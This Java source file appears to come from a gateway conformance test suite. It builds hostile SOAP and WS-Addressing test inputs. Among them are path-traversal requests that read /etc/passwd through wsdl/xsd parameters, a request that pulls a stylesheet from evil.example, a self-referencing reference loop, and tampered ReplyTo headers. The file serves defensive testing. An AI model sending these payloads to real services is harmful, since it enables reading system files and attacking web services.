package jukigate.conformance.attack;

import static java.util.Map.entry;
import static jukigate.conformance.attack.Splice.after;
import static jukigate.conformance.attack.Splice.drafted;
import static jukigate.conformance.attack.Splice.http;
import static jukigate.conformance.attack.Splice.insider;
import static jukigate.conformance.attack.Splice.replace;
import static jukigate.conformance.attack.Splice.text;

import java.util.List;
import java.util.Map;
import java.util.stream.Stream;

/** SOAP and WSA: what other stacks of web services would do with a message. */
final class ScanStimuli {
  private static final String ENCODING =
      " soap:encodingStyle=\"http://schemas.xmlsoap.org/soap/encoding/\"";
  private static final String HEADER = "<soap:Header>";
  private static final String WSA = "http://www.w3.org/2005/08/addressing/";

  private ScanStimuli() {}

  static Map<String, List<Variant>> all() {
    return Map.ofEntries(
        entry("SOAP-08", encodings()),
        entry("SOAP-09", scans()),
        entry(
            "SOAP-11",
            List.of(
                text("element-behind-the-end", it -> it + "<x></x>"),
                text("second-message-behind-the-end", it -> it + it),
                text("end-missing", it -> it.substring(0, it.length() - 4)),
                text("end-misspelt", it -> it.replace("</soap:Envelope>", "</soap:Envelope >x")),
                drafted("fault-as-a-request", ScanStimuli::fault))),
        entry("WSA-03", replies()),
        entry("WSA-07", standards()));
  }

  private static List<Variant> encodings() {
    return List.of(
        replace("encoding-of-envelope", "<soap:Envelope", "<soap:Envelope" + ENCODING),
        insider("encoding-of-body", it -> it.replace("<soap:Body", "<soap:Body" + ENCODING)),
        drafted(
            "encoding-of-operation",
            it ->
                it.body(
                    body ->
                        body.replace(
                            "<u:UpdateIdentity ",
                            "<u:UpdateIdentity xmlns:soap=\"http://schemas.xmlsoap.org/soap/"
                                + "envelope/\""
                                + ENCODING
                                + " "))),
        drafted(
            "reference",
            it -> it.body(body -> body.replace("<u:record>", "<u:record href=\"#r\">"))),
        drafted(
            "reference-in-place",
            it -> it.body(body -> body.replaceFirst("(?s)<u:record>.*</u:record>", LOOP))),
        drafted(
            "rpc",
            it ->
                it.body(
                    body ->
                        body.replace(
                            "<u:sex>",
                            "<u:sex xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\""
                                + " xsi:type=\"xsd:string\""
                                + " xmlns:xsd=\"http://www.w3.org/2001/XMLSchema\">"))));
  }

  private static final String LOOP = "<u:record id=\"r\" href=\"#r\"></u:record>";

  private static List<Variant> scans() {
    return Stream.of(
            "/identity-update/v1?wsdl=../../../../etc/passwd",
            "/identity-update/v1?xsd=../../../../etc/passwd",
            "/identity-update/v1?xsd=..%2f..%2f..%2fetc%2fpasswd",
            "/identity-update/v1?xsd=META-INF/MANIFEST.MF",
            "/identity-update/v1?_wadl",
            "/identity-update/v1?wsdl&stylesheet=http://evil.example/x.xsl",
            "/identity-update/v1;jsessionid=1?wsdl",
            "/identity-update/%2e%2e/identity-update/v1?wsdl",
            "/identity-update?wsdl",
            "/?wsdl",
            "/services/?formatted=true",
            "/identity-update/v1/../v1?wsdl")
        .map(path -> http(path, it -> it.method("GET").target(path)))
        .toList();
  }

  private static Letter fault(Letter letter) {
    return letter
        .action("urn:jukigate:fault:v1")
        .body(
            body ->
                "<soap:Fault xmlns:soap=\"http://schemas.xmlsoap.org/soap/envelope/\">"
                    + "<faultcode>soap:Server</faultcode><faultstring>x</faultstring>"
                    + "</soap:Fault>");
  }

  private static List<Variant> replies() {
    return List.of(
        SoapStimuli.signedBlock("none", range -> reply("ReplyTo", WSA + "none", "")),
        SoapStimuli.signedBlock("other-case", range -> reply("ReplyTo", WSA + "Anonymous", "")),
        SoapStimuli.signedBlock(
            "white-space", range -> reply("ReplyTo", " " + WSA + "anonymous", "")),
        SoapStimuli.signedBlock(
            "reference-parameters",
            range ->
                reply(
                    "ReplyTo",
                    WSA + "anonymous",
                    "<wsa:ReferenceParameters><e:x xmlns:e=\"urn:evil\">1</e:x>"
                        + "</wsa:ReferenceParameters>")),
        SoapStimuli.signedBlock(
            "canary-in-parameters",
            range ->
                reply(
                    "ReplyTo",
                    WSA + "anonymous",
                    "<wsa:Metadata>" + range.canary().url() + "</wsa:Metadata>")),
        SoapStimuli.signedBlock("faults-to-nobody", range -> reply("FaultTo", WSA + "none", "")));
  }

  private static String reply(String name, String address, String more) {
    return "<wsa:"
        + name
        + " wsu:Id=\"reply\"><wsa:Address>"
        + address
        + "</wsa:Address>"
        + more
        + "</wsa:"
        + name
        + ">";
  }

  private static List<Variant> standards() {
    return Stream.concat(
            Stream.of(
                    header("policy", "http://www.w3.org/ns/ws-policy", "Policy"),
                    header(
                        "reliable-messaging",
                        "http://docs.oasis-open.org/ws-rx/wsrm/200702",
                        "Sequence"),
                    header(
                        "coordination",
                        "http://docs.oasis-open.org/ws-tx/wscoor/2006/06",
                        "CoordinationContext"),
                    header(
                        "secure-conversation",
                        "http://docs.oasis-open.org/ws-sx/ws-secureconversation/200512",
                        "SecurityContextToken"),
                    header("make-connection", WSMC, "MessagePending"))
                .flatMap(List::stream),
            Stream.of(
                operation(
                    "metadata", "http://schemas.xmlsoap.org/ws/2004/09/mex/GetMetadata/Request"),
                operation("trust", "http://docs.oasis-open.org/ws-sx/ws-trust/200512/RST/Issue"),
                operation("transfer", "http://schemas.xmlsoap.org/ws/2004/09/transfer/Get"),
                operation(
                    "create-sequence",
                    "http://docs.oasis-open.org/ws-rx/wsrm/200702/CreateSequence")))
        .toList();
  }

  private static final String WSMC = "http://docs.oasis-open.org/ws-rx/wsmc/200702";

  private static List<Variant> header(String name, String namespace, String element) {
    return List.of(
        after(name, HEADER, block(namespace, element, "")),
        after(
            name + "-must-understand",
            HEADER,
            block(namespace, element, " soap:mustUnderstand=\"1\"")));
  }

  private static String block(String namespace, String element, String attribute) {
    return "<x:" + element + " xmlns:x=\"" + namespace + "\"" + attribute + "></x:" + element + ">";
  }

  /** Signed rightly, and with the same words in the SOAPAction. */
  private static Variant operation(String name, String action) {
    return drafted(name, it -> it.action(action));
  }
}
